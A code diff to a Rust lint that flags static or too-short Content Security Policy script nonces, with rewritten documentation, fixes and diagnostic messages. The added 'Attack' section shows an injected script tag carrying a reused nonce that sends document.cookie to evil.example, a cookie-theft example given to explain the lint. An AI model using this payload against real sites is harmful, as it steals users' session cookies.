@@ -6,13 +6,21 @@ use crate::policy::{Form, SecurityPolicy};
 lint! {
     /// # What it does
     ///
-    /// Looks for a nonce whose value is written out. In an audited response, which always has a value, it looks for one
-    /// that is too short to be random.
+    /// Looks for a nonce whose value is written in the policy. In an audited response, where the nonce always has a
+    /// value, it reports one that is too short to be random.
     ///
     /// # Why it matters
     ///
-    /// A nonce tells the page's own scripts from injected ones because nobody can know it ahead. One that is the same
-    /// in every response is read off one page and written onto the injected script of the next.
+    /// A nonce tells the page's own scripts from injected ones because attackers cannot know its value. If it is the
+    /// same in every response, or can be guessed, they can.
+    ///
+    /// # Attack
+    ///
+    /// The attacker reads the nonce in the source of any page, and writes it on the injected script:
+    ///
+    /// ```html
+    /// <script nonce="cmFuZG9t">fetch("https://evil.example/?" + document.cookie)</script>
+    /// ```
     ///
     /// # Example
     ///
@@ -20,16 +28,27 @@ lint! {
     /// content_security_policy: { script_src: "'nonce-cmFuZG9t'" }
     /// ```
     ///
-    /// # Fine
+    /// # Fix
+    ///
+    /// Write `nonce`. Each response then gets a new value.
     ///
     /// ```text
     /// content_security_policy: { script_src: nonce }
     /// ```
     ///
+    /// # Allow
+    ///
+    /// ```text
+    /// #[allow(csp_static_nonce, reason = "snapshot tests need the same bytes; not deployed")]
+    /// script_src: "'nonce-cmFuZG9t'",
+    /// ```
+    ///
+    /// Reasonable in tests. A static page is better served by hashes.
+    ///
     /// # References
     ///
-    /// - [CSP3, section 7.1](https://w3c.github.io/webappsec-csp/#security-nonces)
-    Deny "a nonce that is known ahead stops nothing", check
+    /// - [CSP3, section 7.1, nonces](https://w3c.github.io/webappsec-csp/#security-nonces)
+    Deny "a nonce that attackers know in advance", check
 }
 
 fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
@@ -39,16 +58,16 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
             Form::Declaration => report.push(
                 Diagnostic::finding(source.span, format!("nonce `{nonce}` is the same in every response"))
                     .help("write `nonce`, whose value is new in every response")
-                    .note("an attacker reads it off one page and writes it onto the script injected into the next"),
+                    .note("an attacker reads it in one page and writes it on the script injected into another"),
             ),
-            // Whether the next response has another one, this one cannot tell.
+            // A single response does not show whether the next one has another nonce.
             Form::Response => {
                 let bits = nonce.trim_end_matches('=').len() * 6;
                 if bits < MIN_BITS {
                     report.push(
                         Diagnostic::finding(source.span, format!("nonce `{nonce}` has {bits} bits at most"))
                             .help("take 128 bits from a cryptographic generator, as `Nonce::random()` does")
-                            .note("what is short can be tried out, and what is no random number be worked out"),
+                            .note("an attacker can find a short nonce by trying, and compute one that is not random"),
                     );
                 }
             }
